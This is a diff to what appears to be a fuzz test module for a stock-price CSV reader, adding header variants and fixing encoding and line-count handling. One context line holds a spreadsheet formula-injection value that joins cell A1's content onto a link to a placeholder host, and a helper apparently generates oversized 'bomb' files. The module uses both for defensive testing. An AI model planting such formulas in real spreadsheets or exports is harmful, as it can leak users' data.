@@ -20,17 +20,21 @@ SPELLED = (
     "timestamp,open,high,low,close,adjusted_close,volume",
     '"Date","1. open","2. high","3. low","4. close","5. adjusted close","6. volume"',
     " trade_date , o , h , l , c , adj , v ",
+    "Datum,Eröffnung,Hoch,Tief,Schluss,Adj Close,Stücke",
+    "<DATE>,<OPEN>,<HIGH>,<LOW>,<CLOSE>,<ADJ CLOSE>,<VOL>",
+    "timestamp,AAA.Open,AAA.High,AAA.Low,AAA.Close,AAA.Adjusted,AAA.Volume",
 )
 USELESS = (  # no file with one of these can be read
     "",
-    "Date,Open,High,Low,Close",
+    "Date,Open,High,Low,Volume",
+    "Open,High,Low,Close,Volume",
     "Date,Date,Open,High,Low,Close,Volume",
-    "Date,Open,High,Low,Close,Close/Last,Volume",
-    "Datum,Eröffnung,Hoch,Tief,Schluss,Umsatz",
+    "Date,Open,High,Low,Close,Closing Price,Volume",
+    "Fecha,Apertura,Máximo,Mínimo,Cierre,Volumen",
     '"Date,Open,High,Low,Close,Volume',
     "2019-12-30,1,2,1,2,2,100",
-    "Date;Open;High;Low;Close;Volume",
-    "Date\tOpen\tHigh\tLow\tClose\tVolume",
+    "Date:Open:High:Low:Close:Volume",
+    "Date Open High Low Close Volume",
 )
 FORMULAS = (
     '=HYPERLINK("http://x.invalid/?"&A1;"look")',
@@ -230,8 +234,10 @@ def _content(
     if kind == "encoding":
         encoding = dice.choice(ENCODINGS)
         content = text.encode(encoding, "replace")
-        # A header in another encoding's letters cannot be read; these keep ASCII as it is.
-        return content, _lines(content) - 1 if encoding in ("utf-8-sig", "latin-1", "shift_jis") else 1
+        # UTF-16 without its mark cannot be told from UTF-8 with NULs; latin-1 and shift_jis keep ASCII as it is.
+        return content, 1 if encoding == "utf-16-le" else _lines(
+            content, encoding if encoding[:3] == "utf" else "utf-8"
+        ) - 1
     content = text.encode("utf-8", "surrogatepass")
     if dice.random() < 0.1:
         content = content.replace(b"0", dice.choice((b"\xc0\xb0", b"\xff", b"\xed\xa0\x80", b"\0")))
@@ -247,8 +253,8 @@ def _packed(dice: random.Random, content: bytes) -> tuple[bytes, int | None]:
         (packed, rows),
         (packed + bytes(7), rows),
         (content, 1),
-        # A last line without an end breaks off with the file.
-        (packed + b"garbage", rows + 1 if content.endswith((b"\n", b"\r")) else None),
+        # A last line without an end breaks off with the file; behind \r there might be a \n.
+        (packed + b"garbage", rows + 1 if content.endswith(b"\n") else None),
         (packed[:at], None),
         (packed[:at] + bytes([packed[at] ^ 1 << dice.randrange(8)]) + packed[at + 1 :], None),
     )
@@ -314,7 +320,7 @@ def _bomb(dice: random.Random, path: Path, size: int) -> int:
     return {b"x": 1, b"\n": 0}.get(line, size // 1_000_000 * (1_000_000 // len(line)))
 
 
-def _lines(content: bytes) -> int:
+def _lines(content: bytes, encoding: str = "utf-8") -> int:
     """Lines that are not blank, the header among them."""
-    text = content.decode("utf-8", "backslashreplace").removeprefix("\ufeff")
+    text = content.decode(encoding, "backslashreplace").removeprefix("\ufeff")
     return sum(1 for line in re.split("\r\n|\r|\n", text) if line.strip())
